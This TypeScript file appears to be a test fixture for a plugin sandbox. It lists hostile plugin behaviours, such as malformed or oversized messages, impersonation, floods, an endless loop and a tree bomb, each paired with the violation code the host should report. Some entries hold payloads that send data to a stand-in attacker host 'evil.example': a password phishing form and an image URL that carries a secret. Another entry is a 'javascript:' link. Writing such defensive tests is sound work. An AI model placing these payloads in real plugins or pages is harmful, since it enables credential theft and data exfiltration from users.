import type {PointId} from '../../points/points.js';
import type {ViolationCode} from '../../host/line/violation.js';
import type {PluginErrorCode} from '../../plugin-error.js';

/** One attack: what it runs, and how a host that holds answers. */
export interface Attack {
  /** What it tries, in a few words. */
  readonly does: string;
  /** Runs in the worker before the plugin, with the bare `port` of its line. */
  readonly onPort?: string;
  /** Runs in `setup`, with its context as `ctx`. */
  readonly setup?: string;
  readonly points?: readonly PointId[];
  /** What the host reports of it. */
  readonly reported: ViolationCode | PluginErrorCode;
  /** Whether it is ended for good, or goes on without what it tried. */
  readonly ends: boolean;
}

const onPort = (
  does: string,
  code: string,
  reported: ViolationCode,
): Attack => ({does, onPort: code, reported, ends: true});

/** The plugin's own id, where an attack has to name it. */
export const hostileId = 'hostile.plugin';
const hello = (plugin: string) =>
  `port.postMessage(JSON.stringify({t: 'hello', v: 1, plugin: '${plugin}'}))`;
const view = (does: string, render: string): Attack => ({
  does,
  setup: `ctx.contribute('ideas.card.footer', 'it', {render: () => (${render})});`,
  points: ['ideas.card.footer'],
  reported: 'invalid-result',
  ends: false,
});

/** What plugins try that are written to harm. */
export const attacks = {
  'object-on-the-line': onPort(
    'sends an object where texts are sent',
    `port.postMessage({t: 'ready'})`,
    'frame-not-string',
  ),
  'bytes-on-the-line': onPort(
    'sends bytes where texts are sent',
    `port.postMessage(new ArrayBuffer(8))`,
    'frame-not-string',
  ),
  'ports-on-the-line': onPort(
    'sends a port of its own along',
    `const {port1} = new MessageChannel(); port.postMessage('{}', [port1])`,
    'ports-attached',
  ),
  'message-too-big': onPort(
    'sends more than one message holds',
    `port.postMessage('x'.repeat(262145))`,
    'frame-too-big',
  ),
  'message-of-64-mb': onPort(
    'sends so much that reading it would take a while',
    `port.postMessage('x'.repeat(67108864))`,
    'frame-too-big',
  ),
  'no-json': onPort(
    'sends what is no JSON',
    `port.postMessage('{')`,
    'bad-message',
  ),
  scalar: onPort(
    'sends JSON that is no message',
    `port.postMessage('1')`,
    'bad-message',
  ),
  'too-deep': onPort(
    'sends brackets that a parser drowns in',
    `port.postMessage('['.repeat(100000))`,
    'bad-message',
  ),
  'word-of-the-host': onPort(
    'speaks as if it were the host',
    `port.postMessage(JSON.stringify({t: 'init', init: {}}))`,
    'bad-message',
  ),
  'greets-twice': onPort(
    'greets a second time',
    `${hello(hostileId)};${hello(hostileId)}`,
    'bad-message',
  ),
  'name-of-another': onPort(
    'greets under another plugin’s name',
    hello('good.plugin'),
    'bad-message',
  ),
  flood: onPort(
    'sends two thousand messages at once',
    `for (let n = 0; n < 2000; n++) port.postMessage(JSON.stringify({t: 'pong', n}))`,
    'rate',
  ),
  undeclared: {
    does: 'contributes what its manifest does not name',
    setup: `ctx.contribute('ideas.submit.guard', 'it', {check: () => ({verdict: 'block', message: 'no'})});`,
    reported: 'undeclared',
    ends: true,
  },
  'endless-loop': {
    does: 'never comes back',
    setup: `ctx.contribute('ideas.card.badges', 'it', {badges() { for (;;); }});`,
    points: ['ideas.card.badges'],
    reported: 'timeout',
    ends: false,
  },
  'tree-bomb': view(
    'draws more pieces than a view may have',
    `{tag: 'stack', props: {}, children: Array.from({length: 600}, () => 'a')}`,
  ),
  'phishing-form': view(
    'draws a form of its own that asks for a password',
    `{tag: 'form', props: {action: 'https://evil.example'}, children: [
      {tag: 'input', props: {type: 'password', name: 'password'}}]}`,
  ),
  'carrying-picture': view(
    'carries something away in the address of a picture',
    `{tag: 'image', props: {alt: '', src: 'https://evil.example/?secret'}}`,
  ),
  'script-link': view(
    'draws a link that is a script',
    `{tag: 'link', props: {label: 'Free', href: 'javascript:alert(1)'}}`,
  ),
} as const satisfies Readonly<Record<string, Attack>>;
